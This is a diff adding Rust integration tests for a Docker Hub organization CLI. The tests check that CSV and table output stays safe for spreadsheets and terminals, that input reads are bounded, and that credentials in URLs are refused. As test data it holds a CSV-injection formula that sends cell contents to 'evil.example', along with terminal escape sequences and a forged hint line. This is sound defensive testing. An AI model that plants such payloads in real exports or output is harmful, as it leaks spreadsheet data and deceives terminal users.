@@ -1,15 +1,17 @@
 //! The `dockerhub-org` binary as a user and a script meet it: run as a process against the embedded
 //! simulator (`--simulate`) or a wiremock Docker Hub (`--hub-url`), checking exit codes per error
-//! kind, the hints for missing connection values, table and CSV output, closed pipes, deep outputs
-//! and unreadable input.
+//! kind, the hints for missing connection values, table and CSV output (safe for spreadsheets and
+//! terminals), closed pipes, deep outputs and unreadable input.
 
 mod common;
 
 use std::io::Write as _;
+use std::path::Path;
 use std::process::{Command, Stdio};
 use std::time::{Duration, SystemTime, UNIX_EPOCH};
 
 use common::{Hub, OAT, ORG};
+use dockerhub_org_host::simulator::{DEFAULT_OAT, DEFAULT_ORG, Simulator, SimulatorConfig};
 use serde_json::{Value, json};
 use wiremock::matchers::{method, path};
 use wiremock::{Mock, ResponseTemplate};
@@ -482,5 +484,148 @@ async fn an_output_deeper_than_serde_jsons_limit_reaches_the_user_unchanged() {
         // Indented or not, the body is all there (it has no spaces of its own).
         let printed: String = run.stdout.split_whitespace().collect();
         assert!(printed.contains(&body), "the body, whole ({format:?}): {}", &run.stdout[..200]);
+    }
+}
+
+// ---- output that cannot attack its reader ----------------------------------------------------------
+
+/// The formula a Docker Hub user can put in their own full name (CSV injection).
+const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
+
+/// A simulator whose first member's full name is `full_name` (Docker Hub users choose their own).
+fn simulator_with_name(full_name: &str) -> Simulator {
+    let simulator = Simulator::start(SimulatorConfig::default()).expect("the simulator starts");
+    simulator.with_state(|state| state.members[0].full_name = full_name.to_string());
+    simulator
+}
+
+/// Runs the CLI against `simulator` as a live organization (its URL as --hub-url).
+fn cli_on(simulator: &Simulator, args: &[&str]) -> Run {
+    let mut args = args.to_vec();
+    args.extend(["--org", DEFAULT_ORG, "--hub-url", simulator.url()]);
+    let run = finish(command(&args).env("DOCKERHUB_OAT", DEFAULT_OAT));
+    assert!(!run.stdout.contains(DEFAULT_OAT) && !run.stderr.contains(DEFAULT_OAT), "the token leaked: {run:#?}");
+    run
+}
+
+#[test]
+fn a_formula_in_a_members_name_is_exported_to_csv_as_text() {
+    let simulator = simulator_with_name(FORMULA);
+    // The JSON output carries the name unchanged: programs get the data as it is.
+    let json = cli_on(&simulator, &["run", "export-members", "--json"]);
+    assert_code(&json, 0);
+    let export: Value = serde_json::from_str(&json.stdout).unwrap();
+    assert_eq!(export["members"][0]["name"], FORMULA, "{}", json.stdout);
+
+    let run = cli_on(&simulator, &["run", "export-members", "-o", "csv"]);
+    assert_code(&run, 0);
+    // The cell is quoted (it holds quotes) and starts with ' inside the quotes.
+    let escaped = r#""'=HYPERLINK(""http://evil.example/?""&A1,""click"")""#;
+    assert!(run.stdout.lines().nth(1).unwrap().starts_with(&format!("{escaped},")), "{}", run.stdout);
+    let mut reader = csv::Reader::from_reader(run.stdout.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
+    assert_eq!(&rows[0][0], format!("'{FORMULA}"));
+    for row in &rows {
+        for cell in row {
+            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a formula cell: {cell:?}");
+        }
+    }
+}
+
+#[test]
+fn control_characters_in_a_name_reach_neither_csv_nor_a_table() {
+    let simulator = simulator_with_name("Ada\u{1b}]0;pwned\u{7} \u{1b}[2JLove\rlace\u{202e}\tx");
+    for format in ["csv", "table"] {
+        let run = cli_on(&simulator, &["run", "list-members", "--input", r#"{"page_size": 2}"#, "-o", format]);
+        assert_code(&run, 0);
+        assert!(!run.stdout.chars().any(|c| c.is_control() && c != '\n'), "{format}: {:?}", run.stdout);
+        assert!(!run.stdout.contains("pwned") && !run.stdout.contains('\u{202e}'), "{format}: {:?}", run.stdout);
+        assert!(run.stdout.contains("Ada Love lace x"), "{format}: {:?}", run.stdout);
+        assert_eq!(run.stdout.lines().count(), 3, "{format}: a header and two members: {:?}", run.stdout);
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn escape_sequences_in_dockers_error_text_never_reach_standard_error() {
+    let hub = Hub::start().await;
+    let detail = "\u{1b}]0;pwned\u{7}no permission\u{1b}[2J\nhint: run this to fix it\u{9b}31m";
+    members_answer(&hub, ResponseTemplate::new(403).set_body_json(json!({"detail": detail}))).await;
+    let run = cli_live(&hub, &["run", "list-members"]).await;
+    assert_code(&run, 13);
+    assert!(run.stderr.starts_with("forbidden: "), "{run:#?}");
+    assert!(run.stderr.contains("no permission"), "Docker's words are still shown: {run:#?}");
+    assert!(!run.stderr.chars().any(|c| c.is_control() && c != '\n'), "{:?}", run.stderr);
+    assert!(!run.stderr.contains("pwned") && !run.stderr.contains("[2J"), "{:?}", run.stderr);
+    // Docker's line break does not start a line of its own that looks like the CLI's hint.
+    assert!(!run.stderr.lines().any(|line| line.starts_with("hint: run this")), "{:?}", run.stderr);
+}
+
+// ---- bounded input, credentials in URLs -----------------------------------------------------------
+
+#[test]
+fn input_from_an_endless_device_stops_at_the_input_limit() {
+    let started = std::time::Instant::now();
+    let run = cli(&["run", "list-members", "--simulate", "--input", "@/dev/zero"]);
+    assert_code(&run, 10);
+    assert!(run.stderr.contains("@/dev/zero: more than 1048576 bytes"), "{run:#?}");
+    assert!(started.elapsed() < Duration::from_secs(20), "read past the limit: {:?}", started.elapsed());
+
+    let file = std::env::temp_dir().join(format!("dockerhub-org-cli-big-{}.json", std::process::id()));
+    std::fs::write(&file, format!("{{\"search\": \"{}\"}}", "a".repeat(1024 * 1024))).unwrap();
+    let run = cli(&["run", "list-members", "--simulate", "--input", &format!("@{}", file.display())]);
+    std::fs::remove_file(&file).ok();
+    assert_code(&run, 10);
+    assert!(run.stderr.contains("more than 1048576 bytes"), "{run:#?}");
+}
+
+#[test]
+fn input_from_a_fifo_nobody_writes_to_ends_within_the_timeout() {
+    let fifo = Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("cli-input-{}.fifo", std::process::id()));
+    let _ = std::fs::remove_file(&fifo);
+    let made = Command::new("mkfifo").arg(&fifo).status().expect("mkfifo runs");
+    assert!(made.success());
+    let started = std::time::Instant::now();
+    let arg = format!("@{}", fifo.display());
+    let run = cli(&["run", "list-members", "--simulate", "--timeout", "2", "--input", &arg]);
+    let took = started.elapsed();
+    std::fs::remove_file(&fifo).ok();
+    assert_code(&run, 10);
+    assert!(run.stderr.contains("nothing to read within the 2 s timeout"), "{run:#?}");
+    assert!(took < Duration::from_secs(15), "blocked past the timeout: {took:?}");
+
+    // A FIFO that is written to is read (process substitution, `@<(jq ...)`, is one).
+    let made = Command::new("mkfifo").arg(&fifo).status().expect("mkfifo runs");
+    assert!(made.success());
+    let writer = {
+        let fifo = fifo.clone();
+        std::thread::spawn(move || std::fs::write(fifo, br#"{"page_size": 2}"#).unwrap())
+    };
+    let run = cli(&["run", "list-members", "--simulate", "--json", "--input", &arg]);
+    // A CLI that never opened the FIFO leaves the writer waiting for a reader: be that reader.
+    let waited = std::time::Instant::now();
+    while !writer.is_finished() && waited.elapsed() < Duration::from_secs(2) {
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    if !writer.is_finished() {
+        drop(std::fs::File::open(&fifo));
+    }
+    writer.join().unwrap();
+    std::fs::remove_file(&fifo).ok();
+    assert_code(&run, 0);
+    let value: Value = serde_json::from_str(&run.stdout).unwrap();
+    assert_eq!(value["members"].as_array().unwrap().len(), 2);
+}
+
+#[test]
+fn credentials_in_the_hub_url_are_refused_and_never_echoed() {
+    for url in ["https://ada:s3cret-pw@127.0.0.1:9", "http://s3cret-pw@127.0.0.1:9", "https://ada:s3cret-pw/x@"] {
+        let run = finish(command(&["run", "list-members", "--org", ORG, "--hub-url", url]).env("DOCKERHUB_OAT", OAT));
+        assert_code(&run, 2);
+        assert!(!run.stderr.contains("s3cret-pw") && !run.stdout.contains("s3cret-pw"), "{url}: {run:#?}");
+        assert!(run.stderr.contains("credentials in the URL"), "{url}: {run:#?}");
+        // From the environment too, and for the MCP server.
+        let run = finish(command(&["mcp", "--org", ORG]).env("DOCKERHUB_HUB_URL", url).env("DOCKERHUB_OAT", OAT));
+        assert_ne!(run.code, 0, "{url}: {run:#?}");
+        assert!(!run.stderr.contains("s3cret-pw") && !run.stdout.contains("s3cret-pw"), "{url}: {run:#?}");
     }
 }
